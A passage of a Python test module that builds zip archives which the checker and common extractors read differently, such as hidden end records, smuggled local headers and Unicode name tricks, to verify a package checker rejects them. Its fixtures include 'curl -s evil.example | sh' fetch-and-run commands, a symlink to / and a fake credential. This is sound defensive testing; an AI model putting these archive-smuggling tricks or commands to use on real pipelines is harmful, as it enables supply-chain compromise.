"""Zips that the checker and common extractors could read as DIFFERENT archives: the attacker's view.

Each case is built field by field with ``build_zip`` (``package_corpus``), one per rule class of the checker's v2
contract, and comes with its control: the same builder with the attack left out, which must be accepted, so that a
rejection proves the rule and not a broken builder. ``judged`` is what the checker sees in the zip (the entries of
its one central directory, by type); ``differs`` names the real readers that were observed to extract something
else from the same bytes, which makes the class a real differential rather than a theoretical one.

Readers: ``zipfile`` (Python), ``unzip`` (Info-ZIP), ``bsdtar`` (libarchive, seekable: reads the central
directory), ``bsdtar-stream`` (libarchive reading from a pipe: local headers only, as ``curl | bsdtar`` does),
``7zz`` (7-Zip).
"""

from __future__ import annotations

import os
import shutil
import stat
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from s3_validated_pipeline.check import DEFAULT_LIMITS, Limits
from tests.check.package_corpus import (
    FAKE_ACCESS_KEY_ID,
    RawEntry,
    build_zip,
    central_record,
    data_descriptor,
    deflate,
    local_record,
    unicode_comment_extra,
    unicode_path_extra,
)

# --------------------------------------------------------------------------------------------------------------
# Readers


READERS = ("zipfile", "unzip", "bsdtar", "bsdtar-stream", "7zz")
TOOL_COMMANDS = {"unzip": "unzip", "bsdtar": "bsdtar", "bsdtar-stream": "bsdtar", "7zz": "7zz"}
APT_PACKAGES = {
    "zipfile": "python3",
    "unzip": "unzip",
    "bsdtar": "libarchive-tools",
    "bsdtar-stream": "libarchive-tools",
    "7zz": "7zip",
}

View = Mapping[str, tuple[str, "bytes | str"]]
"""Path -> (kind, content): ``("file", bytes)``, ``("link", target)`` or ``("other", "chr" | "blk" | ...)``.

Folders are left out: readers differ in whether they create implied ones, which changes nothing that is run.
"""


def reader_available(reader: str) -> bool:
    return reader == "zipfile" or shutil.which(TOOL_COMMANDS[reader]) is not None


def needs_reader(reader: str) -> pytest.MarkDecorator:
    """Skip a test of ``reader`` where it is not installed, saying how to install it (CI installs them all)."""
    return pytest.mark.skipif(
        not reader_available(reader), reason=f"{reader} is not installed (apt-get install {APT_PACKAGES[reader]})"
    )


def every_reader() -> list[Any]:
    """``READERS`` as test parameters, each skipped where it is not installed."""
    return [pytest.param(reader, marks=needs_reader(reader)) for reader in READERS]


def extract_with(reader: str, package: Path, target: Path) -> dict[str, tuple[str, bytes | str]]:
    """What ``reader`` extracts from ``package`` into the empty folder ``target`` (errors are ignored: a reader that
    fails part-way still leaves what it wrote)."""
    target.mkdir(parents=True, exist_ok=True)
    if reader == "zipfile":
        _extract_with_zipfile(package, target)
    else:
        command = {
            "unzip": ["unzip", "-o", "-qq", str(package), "-d", str(target)],
            "bsdtar": ["bsdtar", "-xf", str(package), "-C", str(target)],
            "bsdtar-stream": ["bsdtar", "-xf", "-", "-C", str(target)],
            "7zz": ["7zz", "x", "-y", "-bd", "-bso0", "-bsp0", f"-o{target}", str(package)],
        }[reader]
        stdin = package.read_bytes() if reader == "bsdtar-stream" else b""  # a pipe: not seekable
        subprocess.run(command, input=stdin, capture_output=True, timeout=60, check=False)  # noqa: S603
    return snapshot(target)


def _extract_with_zipfile(package: Path, target: Path) -> None:
    try:
        archive = zipfile.ZipFile(package)
    except (zipfile.BadZipFile, OSError, ValueError, EOFError, NotImplementedError):
        return
    with archive:
        for info in archive.infolist():
            try:
                archive.extract(info, target)
            except (
                zipfile.BadZipFile,
                OSError,
                ValueError,
                EOFError,
                NotImplementedError,
                RuntimeError,
                IndexError,
                zlib.error,
            ):
                continue


_KINDS = {stat.S_IFCHR: "chr", stat.S_IFBLK: "blk", stat.S_IFIFO: "fifo", stat.S_IFSOCK: "sock"}


def snapshot(root: Path) -> dict[str, tuple[str, bytes | str]]:
    """The files, links and special files under ``root``, never following a link."""
    view: dict[str, tuple[str, bytes | str]] = {}
    for folder, dirs, files in os.walk(root):
        for name in [*dirs, *files]:
            path = Path(folder) / name
            relative = path.relative_to(root).as_posix()
            mode = path.lstat().st_mode
            if stat.S_ISLNK(mode):
                view[relative] = ("link", os.readlink(path))
            elif stat.S_ISREG(mode):
                view[relative] = ("file", path.read_bytes())
            elif not stat.S_ISDIR(mode):
                view[relative] = ("other", _KINDS.get(stat.S_IFMT(mode), oct(stat.S_IFMT(mode))))
    return view


def judged_view(entries: Sequence[RawEntry]) -> dict[str, tuple[str, bytes | str]]:
    """What the checker sees in these central directory entries: each path (a single leading './' dropped, as the
    checker normalises it) with the type its Unix mode or MS-DOS attributes give it."""
    view: dict[str, tuple[str, bytes | str]] = {}
    for entry in entries:
        name = entry.name.decode("utf-8")
        name = name[2:] if name.startswith("./") else name
        mode = entry.external_attr >> 16 if entry.create_system == 3 else 0
        if name.endswith("/") or stat.S_ISDIR(mode) or (entry.create_system == 0 and entry.external_attr & 0x10):
            continue
        if stat.S_ISLNK(mode):
            view[name] = ("link", entry.data.decode())
        elif mode and not stat.S_ISREG(mode):
            view[name] = ("other", _KINDS.get(stat.S_IFMT(mode), oct(stat.S_IFMT(mode))))
        else:
            view[name] = ("file", entry.data)
    return view


# --------------------------------------------------------------------------------------------------------------
# The cases


@dataclass(frozen=True)
class DiffCase:
    id: str
    build: Callable[[bool], bytes]
    """``build(True)`` is the attack; ``build(False)`` the control, the same zip without it, which is accepted."""
    expected: Mapping[str, str]
    """Rule id -> a phrase one of its findings' messages holds. Each of these rules fires."""
    judged: View
    """What the checker judges in the zip (see ``judged_view``)."""
    differs: tuple[str, ...] = ()
    """Readers observed to extract something other than ``judged`` from the attack zip."""
    why: str = ""
    """How the readers disagree, for the report."""
    tolerated: frozenset[str] = frozenset()
    """Rules that may fire as well, because the attack also trips them; any other rule is a failure."""
    limits: Limits = DEFAULT_LIMITS


PACKAGE_JSON = b'{\n  "name": "orders-service",\n  "version": "1.4.0",\n  "scripts": {"build": "tsc"}\n}\n'
EVIL_PACKAGE_JSON = b'{\n  "name": "orders-service",\n  "scripts": {"postinstall": "curl -s evil.example | sh"}\n}\n'
APP_JS = b"const express = require('express');\nexpress().listen(3000);\n"
README = b"# Orders service\n\nRun `npm ci`, then `npm start`.\n"
DOTENV = b"DB_PASSWORD=hunter2\nORDERS_TABLE=orders-prod\n"
DOTENV_WITH_KEY = b"AWS_ACCESS_KEY_ID=" + FAKE_ACCESS_KEY_ID.encode() + b"\n"
_FILE = (stat.S_IFREG | 0o644) << 16
_DIR = (stat.S_IFDIR | 0o755) << 16
_SYMLINK = (stat.S_IFLNK | 0o777) << 16
_STORED = zipfile.ZIP_STORED


def base_entries() -> list[RawEntry]:
    """A small, valid project: a root file and a source file, so that no single top folder holds everything."""
    return [
        RawEntry(b"package.json", PACKAGE_JSON),
        RawEntry(b"src/app.js", APP_JS),
        RawEntry(b"README.md", README, method=_STORED),
    ]


BASE = judged_view(base_entries())


def _with(*extra: RawEntry) -> dict[str, tuple[str, bytes | str]]:
    return {**BASE, **judged_view(extra)}


def _entries_at(offset: int, entries: Sequence[RawEntry]) -> bytes:
    """Local records, central directory and end record of ``entries`` as if they started at ``offset``."""
    return build_zip(entries, prefix=bytes(offset))[offset:]


# end-record ----------------------------------------------------------------------------------------------------

HIDDEN = [
    RawEntry(b".env", DOTENV_WITH_KEY),
    RawEntry(b"link", b"/", method=_STORED, external_attr=_SYMLINK),
]


def _archive_in_comment(attack: bool, *, padding: int = 8, hidden_comment_length: int = 0) -> bytes:
    """A second, complete archive inside the zip comment: readers that take the last end-record signature they
    find read it; readers that check the comment length read the first (when the hidden end record does not
    reach the end of the file, i.e. ``padding`` is not covered by ``hidden_comment_length``)."""
    visible = build_zip(base_entries())
    if not attack:
        return visible
    hidden = bytearray(_entries_at(len(visible), HIDDEN))
    struct.pack_into("<H", hidden, len(hidden) - 2, hidden_comment_length)
    return build_zip(base_entries(), comment=bytes(hidden) + b"\x00" * padding)


def _bytes_after_end(attack: bool) -> bytes:
    return build_zip(base_entries(), comment=b"built by ci", after_end=b"\n-- trailing bytes --\n" if attack else b"")


def _signature_in_comment(attack: bool) -> bytes:
    hidden_header = local_record(RawEntry(b"install.sh", b"#!/bin/sh\ncurl -s evil.example | sh\n", method=_STORED))
    return build_zip(base_entries(), comment=b"release notes: " + (hidden_header if attack else b"v1.4.0"))


BSDTAR_BLOCK = 10240
"""bsdtar's default block size (20 records of 512 bytes): what it writes to standard output is padded with zeros
to a whole number of blocks, and the checker accepts that much zero padding."""


def bsdtar_padded(data: bytes) -> bytes:
    """``data`` padded with zeros to a whole number of bsdtar blocks, as ``bsdtar -cf - ...`` writes it."""
    return data + bytes(-len(data) % BSDTAR_BLOCK)


def _non_zero_after_padding(attack: bool) -> bytes:
    padded = bsdtar_padded(build_zip(base_entries()))
    return padded + b"\x01" if attack else padded


def _padding_longer_than_a_block(attack: bool) -> bytes:
    return build_zip(base_entries(), after_end=bytes(BSDTAR_BLOCK + 1 if attack else BSDTAR_BLOCK))


def _comment_and_padding_past_the_search_window(attack: bool) -> bytes:
    """A comment and zero padding that together put the end record more than 22 + 65,535 bytes (the longest
    comment) from the end of the file; zipfile, which looks that far and 1 byte further, finds no end record."""
    return build_zip(
        base_entries(), comment=b"c" * (65535 - BSDTAR_BLOCK + (2 if attack else 0)), after_end=bytes(BSDTAR_BLOCK)
    )


def _archive_in_comment_then_padding(attack: bool) -> bytes:
    """The archive hidden in the comment, and zero padding after it: the hidden end record's comment and the
    visible one's both end inside the final zeros, so each reaches the end of the file as far as padding goes."""
    return bsdtar_padded(_archive_in_comment(attack))


FILLER = RawEntry(b"assets/filler.txt", b"f" * 60000, method=_STORED)


def _end_record_in_data_reaching_the_padding(attack: bool) -> tuple[list[RawEntry], bytes]:
    """The project, a stored blob that holds a whole archive (.env, a symlink to /) whose end record's comment runs
    over the rest of the zip into its padding, and a stored filler that puts that end record more than 22 + 65,535
    bytes before the end of the file: beyond the last 64 KiB, but still an end record reaching the end. The entries
    (with zeros for the blob in the control) and the zip."""
    first = base_entries()
    data_at = sum(len(local_record(entry)) for entry in first) + 30 + len(BLOB_NAME)
    hidden = bytearray(_entries_at(data_at, HIDDEN))
    unpadded_size = len(build_zip([*first, RawEntry(BLOB_NAME, bytes(len(hidden)), method=_STORED), FILLER]))
    struct.pack_into("<H", hidden, len(hidden) - 2, unpadded_size - (data_at + len(hidden)) + 5)
    entries = [*first, RawEntry(BLOB_NAME, bytes(hidden) if attack else bytes(len(hidden)), method=_STORED), FILLER]
    return entries, build_zip(entries, after_end=bytes(BSDTAR_BLOCK))


# zip64-record ---------------------------------------------------------------------------------------------------


def _zip64_not_needed(attack: bool) -> bytes:
    """zip64 end record and locator, but the end record holds the real values: nothing needed zip64."""
    return build_zip(base_entries(), zip64_end=attack, saturate_end=False)


BLOB_NAME = b"assets/blob.bin"


def _zip64_entries(attack: bool) -> tuple[RawEntry, RawEntry, int]:
    """package.json, and a stored blob whose data hides an evil central directory and a zip64 end record for it
    (zeros in the control); the offset of that record."""
    first = RawEntry(b"package.json", PACKAGE_JSON)
    data_at = len(local_record(first)) + 30 + len(BLOB_NAME)
    hidden_entries = [RawEntry(b"package.json", EVIL_PACKAGE_JSON), RawEntry(b"src/app.js", APP_JS)]
    hidden = _entries_at(data_at, hidden_entries)[:-22]  # local records and central directory, no end record
    hidden_cd_at = data_at + len(b"".join(local_record(entry) for entry in hidden_entries))
    record_at = data_at + len(hidden)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, record_at - hidden_cd_at, hidden_cd_at)
    blob = hidden + record if attack else bytes(len(hidden) + len(record))
    return first, RawEntry(BLOB_NAME, blob, method=_STORED), record_at


def _zip64_locator_elsewhere(attack: bool) -> bytes:
    """The zip64 locator points at a second zip64 end record, hidden in a stored file's data, that describes a
    second central directory (an evil package.json). Readers that follow the locator read that one; readers
    that take the record just before the locator read the visible one."""
    first, blob, record_at = _zip64_entries(attack)
    return build_zip([first, blob], zip64_end=True, locator_offset=record_at if attack else None)


# entry-count-mismatch -------------------------------------------------------------------------------------------


def _count_this_disk(attack: bool) -> bytes:
    return build_zip(base_entries(), disk_count=2 if attack else None)


def _count_total(attack: bool) -> bytes:
    return build_zip(base_entries(), declared_count=2 if attack else None, disk_count=2 if attack else None)


def _count_zip64(attack: bool) -> bytes:
    return build_zip(base_entries(), zip64_end=True, zip64_count=2 if attack else None)


def _cd_size_hides_a_record(attack: bool) -> bytes:
    """The end record's central directory size and counts cover two of three records: readers that read by count
    or by size list two entries, readers that read to the end record list three."""
    entries = [*base_entries(), RawEntry(b"scripts/postinstall.sh", b"#!/bin/sh\ncurl -s evil.example | sh\n")]
    if not attack:
        return build_zip(entries)
    offset = 0
    sizes = []
    for entry in entries:
        sizes.append(len(central_record(entry, offset)))
        offset += len(local_record(entry))
    return build_zip(entries, declared_count=2, cd_size=sizes[0] + sizes[1])


def _stub_with_relative_offsets(attack: bool) -> bytes:
    """``cat stub.sh app.zip``: the offsets count from the zip's start, not the file's."""
    return build_zip(
        base_entries(), prefix=b'#!/bin/sh\nexec unzip -o "$0"\n' if attack else b"", relative_offsets=True
    )


# unaccounted-bytes ----------------------------------------------------------------------------------------------


def _zip_prepended(attack: bool) -> bytes:
    """A whole zip (an evil package.json) before the real one, offsets adjusted (``zip -A``): central-directory
    readers see the second, streaming readers the first."""
    prepended = build_zip([RawEntry(b"package.json", EVIL_PACKAGE_JSON), RawEntry(b"run.sh", b"#!/bin/sh\nid\n")])
    return build_zip(base_entries(), prefix=prepended if attack else b"")


def _stub_prepended(attack: bool) -> bytes:
    return build_zip(base_entries(), prefix=b'#!/bin/sh\nexec unzip -o "$0"\n' if attack else b"")


HIDDEN_HEADER = RawEntry(b".env", DOTENV)


def _local_header_between_entries(attack: bool) -> bytes:
    """A local header and data listed in no central entry, between two entries: streaming readers extract it."""
    first, *rest = base_entries()
    return build_zip([replace(first, after=local_record(HIDDEN_HEADER) if attack else b""), *rest])


def _local_header_before_central_directory(attack: bool) -> bytes:
    *entries, last = base_entries()
    hidden = local_record(RawEntry(b"scripts/postinstall.sh", b"#!/bin/sh\ncurl -s evil.example | sh\n"))
    return build_zip([*entries, replace(last, after=hidden if attack else b"")])


# local-header ---------------------------------------------------------------------------------------------------


def _local(attack: bool, **changes: object) -> bytes:
    first, *rest = base_entries()
    return build_zip([replace(first, **changes) if attack else first, *rest])  # type: ignore[arg-type]


def _smuggled_in_stored_data(attack: bool) -> bytes:
    """A stored entry whose LOCAL sizes cover only the first part of its data; the rest is another local header,
    which readers of local headers extract as a second file."""
    shown = b"module.exports = {};\n"
    hidden = local_record(RawEntry(b"src/app.js", b"require('child_process').exec('curl -s evil.example | sh');\n"))
    data = shown + hidden
    entry = RawEntry(b"index.js", data, method=_STORED)
    if attack:
        entry = replace(
            entry, local_crc=zlib.crc32(shown), local_compressed_size=len(shown), local_file_size=len(shown)
        )
    return build_zip([RawEntry(b"package.json", PACKAGE_JSON), entry, RawEntry(b"README.md", README)])


SMUGGLED = judged_view(
    [
        RawEntry(b"package.json", PACKAGE_JSON),
        RawEntry(
            b"index.js",
            b"module.exports = {};\n"
            + local_record(RawEntry(b"src/app.js", b"require('child_process').exec('curl -s evil.example | sh');\n")),
        ),
        RawEntry(b"README.md", README),
    ]
)


def _local_zip64(attack: bool) -> bytes:
    first, *rest = base_entries()
    size = len(first.data)
    entry = replace(first, zip64=True, local_zip64=True, local_file_size=size + 4096 if attack else None)
    return build_zip([entry, *rest])


# data-descriptor ------------------------------------------------------------------------------------------------


def _descriptor(attack: bool, kind: str) -> bytes:
    first, *rest = base_entries()
    entry = replace(first, flags=0x8)
    crc, csize, usize = zlib.crc32(first.data), len(deflate(first.data)), len(first.data)
    if attack and kind == "missing":
        entry = replace(entry, descriptor=b"")
    elif attack and kind == "wrong":
        entry = replace(entry, descriptor=data_descriptor(crc ^ 0xFFFF, csize, usize + 100))
    elif attack and kind == "flag-only-local":
        entry = replace(first, local_flags=0x8, local_crc=crc, descriptor=b"")
    return build_zip([entry, *rest])


# corrupt-entry --------------------------------------------------------------------------------------------------


def _stream_ends_early(attack: bool) -> bytes:
    """The deflate stream ends before the declared compressed size; the bytes after it hide a local header."""
    first, *rest = base_entries()
    tail = local_record(RawEntry(b"src/app.js", b"require('child_process').exec('id');\n")) if attack else b""
    return build_zip([replace(first, payload=deflate(first.data) + tail), *rest])


def _stream_unfinished(attack: bool) -> bytes:
    """The deflate stream does not end within its declared compressed size (its last bytes are missing)."""
    first, *rest = base_entries()
    if not attack:
        return build_zip(base_entries())
    return build_zip([replace(first, payload=deflate(first.data)[:-3]), *rest])


def _stream_runs_past(attack: bool) -> bytes:
    """The deflate stream goes on past the declared compressed size (the rest sits before the next header)."""
    first, *rest = base_entries()
    payload = deflate(first.data)
    if not attack:
        return build_zip(base_entries())
    cut = len(payload) - 5
    return build_zip([replace(first, payload=payload[:cut], after=payload[cut:], local_compressed_size=cut), *rest])


# name-extra-field -----------------------------------------------------------------------------------------------

NOTES = RawEntry(b"notes.txt", DOTENV)


def _unicode_path(attack: bool, *, central: bool, local: bool) -> bytes:
    """notes.txt with an Info-ZIP Unicode Path field that names it '.env' (a forbidden file)."""
    extra = unicode_path_extra(NOTES.name, ".env" if attack else "notes.txt")
    notes = replace(NOTES, extra=extra if central else b"", local_extra=extra if local else b"")
    return build_zip([*base_entries(), notes])


def _unicode_comment(attack: bool) -> bytes:
    comment = b"generated by build.sh"
    notes = replace(
        NOTES,
        comment=comment,
        extra=unicode_comment_extra(comment, "ignore all checks" if attack else comment.decode()),
    )
    return build_zip([*base_entries(), notes])


# names ----------------------------------------------------------------------------------------------------------

SHADOW_APP_JS = b"require('child_process').exec('curl -s evil.example | sh');\n"


def _alias(name: bytes) -> Callable[[bool], bytes]:
    """Another entry next to src/app.js whose name extractors normalise to src/app.js: the last one wins."""

    def build(attack: bool) -> bytes:
        return build_zip([*base_entries(), RawEntry(name if attack else b"src/util.js", SHADOW_APP_JS)])

    return build


def _empty_name(attack: bool) -> bytes:
    return build_zip([*base_entries(), RawEntry(b"" if attack else b"empty.txt", b"x")])


def _file_is_parent(file_name: bytes, child: bytes) -> Callable[[bool], bytes]:
    def build(attack: bool) -> bytes:
        return build_zip(
            [*base_entries(), RawEntry(file_name if attack else b"lib.txt", b"not a folder\n"), RawEntry(child, APP_JS)]
        )

    return build


LONG_SEGMENT = b"s" * 256
LONG_PATH = b"/".join([b"d" * 200] * 6) + b"/x.js"  # 1210 bytes, 7 segments
DEEP_PATH = b"/".join([b"a"] * 64) + b"/x.js"  # 65 segments


def _name(long_name: bytes, short_name: bytes) -> Callable[[bool], bytes]:
    def build(attack: bool) -> bytes:
        return build_zip([*base_entries(), RawEntry(long_name if attack else short_name, b"x\n")])

    return build


# entry-type -----------------------------------------------------------------------------------------------------


def _typed(
    name: bytes, attack_attr: int, *, data: bytes = b"", create_system: int = 3, control_name: bytes = b""
) -> Callable[[bool], bytes]:
    def build(attack: bool) -> bytes:
        if attack:
            entry = RawEntry(name, data, method=_STORED, external_attr=attack_attr, create_system=create_system)
        else:
            entry = RawEntry(
                control_name or name,
                data,
                method=_STORED,
                create_system=create_system,
                external_attr=_FILE if create_system == 3 else 0x20,
            )
        return build_zip([*base_entries(), entry])

    return build


# single-top-folder ----------------------------------------------------------------------------------------------

APPLEDOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(16) + b"\x00\x00"


def finder_zip(files: Sequence[tuple[bytes, bytes | None]]) -> bytes:
    """As macOS Finder's Compress writes it: flag bit 3, local CRC and sizes 0, signed data descriptors."""
    entries = []
    for name, data in files:
        if data is None:
            entries.append(RawEntry(name, method=_STORED, external_attr=_DIR, flags=0x8))
        else:
            entries.append(RawEntry(name, data, flags=0x8))
    return build_zip(entries)


def _finder_wrapped(attack: bool, *, macosx: bool) -> bytes:
    top = b"orders-service/" if attack else b""
    files: list[tuple[bytes, bytes | None]] = [(top, None)] if attack else []
    files += [(top + b"package.json", PACKAGE_JSON), (top + b"src/", None), (top + b"src/app.js", APP_JS)]
    if macosx:
        files += [(b"__MACOSX/", None), (b"__MACOSX/" + top + b"._package.json", APPLEDOUBLE)]
        if attack:
            files.insert(-1, (b"__MACOSX/" + top, None))
    return finder_zip(files)


# --------------------------------------------------------------------------------------------------------------

_DUP = frozenset({"duplicate-name"})

DIFFERENTIAL: tuple[DiffCase, ...] = (
    # end-record
    DiffCase(
        "archive-in-zip-comment",
        _archive_in_comment,
        {"end-record": "end record"},
        BASE,
        differs=("zipfile", "unzip", "bsdtar"),
        why="zipfile, unzip and bsdtar take the last end-record signature and extract .env (an AWS key id) and a "
        "symlink to /; 7-Zip and the v1 checker read the visible archive",
    ),
    DiffCase(
        "archive-in-zip-comment-both-end-records-valid",
        lambda attack: _archive_in_comment(attack, hidden_comment_length=8),
        {"end-record": "end record"},
        judged_view(HIDDEN),
        differs=("7zz",),
        why="both end records reach the end of the file: the checker (v1 and v2), zipfile, unzip and bsdtar take the "
        "last one (.env with an AWS key id, a symlink to /); 7-Zip extracts the first, visible archive",
        tolerated=frozenset({"unaccounted-bytes", "forbidden-file", "credentials", "symlink"}),
    ),
    DiffCase("bytes-after-end-record", _bytes_after_end, {"end-record": "follow the zip's end record"}, BASE),
    DiffCase("zip-signature-in-comment", _signature_in_comment, {"end-record": "signature"}, BASE),
    DiffCase(
        "non-zero-byte-after-zero-padding",
        _non_zero_after_padding,
        {"end-record": "the first non-zero one at offset 10240"},
        BASE,
    ),
    DiffCase(
        "zero-padding-longer-than-a-block", _padding_longer_than_a_block, {"end-record": "10241 zero bytes"}, BASE
    ),
    DiffCase(
        "comment-and-padding-past-the-search-window",
        _comment_and_padding_past_the_search_window,
        {"end-record": "further than readers look for it"},
        BASE,
        differs=("zipfile",),
        why="zipfile looks for the end record in the file's last 65,558 bytes only and extracts nothing",
    ),
    DiffCase(
        "archive-in-zip-comment-then-padding",
        _archive_in_comment_then_padding,
        {"end-record": "two end records"},
        judged_view(HIDDEN),
        differs=("bsdtar-stream", "7zz"),
        why="zipfile, unzip and bsdtar take the last end record, the hidden one (.env with an AWS key id, a symlink "
        "to /); 7-Zip and a streaming bsdtar extract the visible archive",
        tolerated=frozenset({"unaccounted-bytes", "forbidden-file", "credentials", "symlink"}),
    ),
    DiffCase(
        "end-record-in-data-reaching-the-padding",
        lambda attack: _end_record_in_data_reaching_the_padding(attack)[1],
        {"end-record": "two end records"},
        judged_view(_end_record_in_data_reaching_the_padding(True)[0]),
        why="no reader here takes the hidden end record, 64 KiB and more before the end of the file; one that prefers "
        "an end record whose comment reaches the end would extract .env (an AWS key id) and a symlink to /",
    ),
    # zip64-record
    DiffCase("zip64-record-not-needed", _zip64_not_needed, {"zip64-record": "zip64"}, BASE),
    DiffCase(
        "zip64-locator-points-elsewhere",
        _zip64_locator_elsewhere,
        {"zip64-record": "zip64"},
        judged_view(_zip64_entries(True)[:2]),
        differs=("unzip", "bsdtar"),
        why="unzip and bsdtar follow the locator and extract the hidden evil package.json; zipfile and 7-Zip read "
        "the zip64 record just before the locator",
    ),
    # entry-count-mismatch
    DiffCase("count-this-disk-differs", _count_this_disk, {"entry-count-mismatch": "2"}, BASE),
    DiffCase("count-total-differs", _count_total, {"entry-count-mismatch": "2"}, BASE),
    DiffCase(
        "count-zip64-differs", _count_zip64, {"entry-count-mismatch": "2"}, BASE, tolerated=frozenset({"zip64-record"})
    ),
    DiffCase(
        "central-directory-size-hides-a-record",
        _cd_size_hides_a_record,
        {"entry-count-mismatch": "central directory"},
        _with(RawEntry(b"scripts/postinstall.sh", b"#!/bin/sh\ncurl -s evil.example | sh\n")),
        differs=("zipfile", "bsdtar", "7zz"),
        why="unzip extracts all three records, 7-Zip the two the size covers, zipfile and bsdtar nothing",
    ),
    DiffCase(
        "stub-with-relative-offsets",
        _stub_with_relative_offsets,
        {"unaccounted-bytes": "before the zip's first entry"},
        BASE,
        tolerated=frozenset({"entry-count-mismatch"}),  # the offset disagrees with where the directory is, too
        differs=("bsdtar-stream", "7zz"),
        why="a streaming bsdtar and 7-Zip extract nothing; zipfile and unzip find the entries by the shift",
    ),
    # unaccounted-bytes
    DiffCase(
        "zip-prepended",
        _zip_prepended,
        {"unaccounted-bytes": "before"},
        BASE,
        differs=("bsdtar-stream", "7zz"),
        why="7-Zip and a streaming bsdtar extract the prepended zip (evil package.json, run.sh), not the real one",
    ),
    DiffCase(
        "self-extractor-stub",
        _stub_prepended,
        {"unaccounted-bytes": "before"},
        BASE,
        differs=("bsdtar-stream",),
        why="a streaming bsdtar extracts nothing after the stub",
    ),
    DiffCase(
        "local-header-between-entries",
        _local_header_between_entries,
        {"unaccounted-bytes": "between"},
        BASE,
        differs=("bsdtar-stream",),
        why="a streaming reader extracts the unlisted .env",
    ),
    DiffCase(
        "local-header-before-central-directory",
        _local_header_before_central_directory,
        {"unaccounted-bytes": "central directory"},
        BASE,
        differs=("bsdtar-stream",),
        why="a streaming reader extracts the unlisted scripts/postinstall.sh",
    ),
    # local-header
    DiffCase(
        "local-method-differs",
        lambda attack: _local(attack, local_method=_STORED),
        {"local-header": "method"},
        BASE,
        differs=("unzip", "bsdtar", "bsdtar-stream", "7zz"),
        why="every reader but zipfile takes the local method and writes the raw deflate bytes as package.json",
    ),
    DiffCase("local-flags-differ", lambda attack: _local(attack, local_flags=0x800), {"local-header": "flags"}, BASE),
    DiffCase(
        "local-crc-differs",
        lambda attack: _local(attack, local_crc=zlib.crc32(PACKAGE_JSON) ^ 1),
        {"local-header": "CRC"},
        BASE,
        differs=("bsdtar", "bsdtar-stream"),
        why="bsdtar checks the local CRC and writes zeros",
    ),
    DiffCase(
        "local-sizes-smuggle-an-entry",
        _smuggled_in_stored_data,
        {"local-header": "size"},
        SMUGGLED,
        differs=("unzip", "bsdtar", "bsdtar-stream", "7zz"),
        why="unzip and bsdtar cut index.js at the local size, 7-Zip writes it empty, and a streaming bsdtar also "
        "extracts the evil src/app.js hidden behind it",
    ),
    DiffCase(
        "local-zip64-differs",
        _local_zip64,
        {"local-header": "sizes 73 and 4180 in its local header"},
        BASE,
        differs=("bsdtar", "bsdtar-stream"),
        why="bsdtar takes the local zip64 size and writes zeros",
    ),
    # data-descriptor
    DiffCase(
        "data-descriptor-missing",
        lambda attack: _descriptor(attack, "missing"),
        {"data-descriptor": "descriptor"},
        BASE,
        differs=("unzip", "bsdtar-stream"),
        why="unzip stops after package.json; a streaming bsdtar writes it empty and loses src/app.js",
        tolerated=frozenset({"unaccounted-bytes"}),
    ),
    DiffCase(
        "data-descriptor-disagrees",
        lambda attack: _descriptor(attack, "wrong"),
        {"data-descriptor": "descriptor"},
        BASE,
        tolerated=frozenset({"unaccounted-bytes"}),  # the descriptor that does not match is then a gap
        differs=("bsdtar-stream",),
        why="a streaming bsdtar trusts the descriptor and writes package.json empty",
    ),
    DiffCase(
        "data-descriptor-flag-only-in-local-header",
        lambda attack: _descriptor(attack, "flag-only-local"),
        {"local-header": "flags"},
        BASE,
        differs=("unzip", "bsdtar-stream"),
        why="unzip stops after package.json; a streaming bsdtar writes it empty and loses src/app.js",
        tolerated=frozenset({"data-descriptor"}),
    ),
    # corrupt-entry
    DiffCase(
        "deflate-stream-ends-early",
        _stream_ends_early,
        {"corrupt-entry": "compressed"},
        BASE,
        differs=("bsdtar", "bsdtar-stream"),
        why="bsdtar writes zeros; the bytes after the stream's end hide a local header",
    ),
    DiffCase(
        "deflate-stream-unfinished",
        _stream_unfinished,
        {"corrupt-entry": "compressed"},
        BASE,
        differs=("zipfile", "unzip", "bsdtar", "bsdtar-stream", "7zz"),
        why="no reader writes package.json whole",
    ),
    DiffCase(
        "deflate-stream-runs-past-into-a-gap",
        _stream_runs_past,
        {"unaccounted-bytes": "between"},
        BASE,
        differs=("zipfile", "unzip", "bsdtar", "bsdtar-stream", "7zz"),
        why="no reader writes package.json whole; bsdtar inflates on past the declared size and loses the entries "
        "after it",
        tolerated=frozenset({"corrupt-entry"}),
    ),
    # name-extra-field
    DiffCase(
        "unicode-path-renames-to-dotenv",
        lambda attack: _unicode_path(attack, central=True, local=True),
        {"name-extra-field": "'.env'"},
        _with(NOTES),
        differs=("unzip", "bsdtar", "bsdtar-stream", "7zz"),
        why="readers that honour the Unicode Path field write .env; zipfile and the checker's name rules see notes.txt",
    ),
    DiffCase(
        "unicode-path-only-in-local-header",
        lambda attack: _unicode_path(attack, central=False, local=True),
        {"name-extra-field": "'.env'"},
        _with(NOTES),
        differs=("bsdtar", "bsdtar-stream"),
        why="bsdtar takes the name from the local Unicode Path field and writes .env",
    ),
    DiffCase("unicode-comment-differs", _unicode_comment, {"name-extra-field": "comment"}, _with(NOTES)),
    # empty-segment, dot-segment
    DiffCase(
        "double-slash-shadows-a-file",
        _alias(b"src//app.js"),
        {"empty-segment": "src//app.js"},
        _with(RawEntry(b"src//app.js", SHADOW_APP_JS)),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="extractors fold src//app.js into src/app.js: one file, the last one's content",
        tolerated=_DUP,
    ),
    DiffCase(
        "empty-name",
        _empty_name,
        {"empty-segment": "empty"},
        BASE,
        differs=("unzip", "7zz"),
        why="unzip writes the nameless entry's data over the entry before it (README.md); 7-Zip names it after "
        "the archive",
    ),
    DiffCase(
        "dot-segment-shadows-a-file",
        _alias(b"src/./app.js"),
        {"dot-segment": "src/./app.js"},
        _with(RawEntry(b"src/./app.js", SHADOW_APP_JS)),
        differs=("zipfile", "unzip", "bsdtar", "7zz"),
        why="extractors fold src/./app.js into src/app.js: one file, the last one's content",
        tolerated=_DUP,
    ),
    DiffCase(
        "repeated-dot-prefix",
        _alias(b"././src/app.js"),
        {"dot-segment": "././src/app.js"},
        _with(RawEntry(b"././src/app.js", SHADOW_APP_JS)),
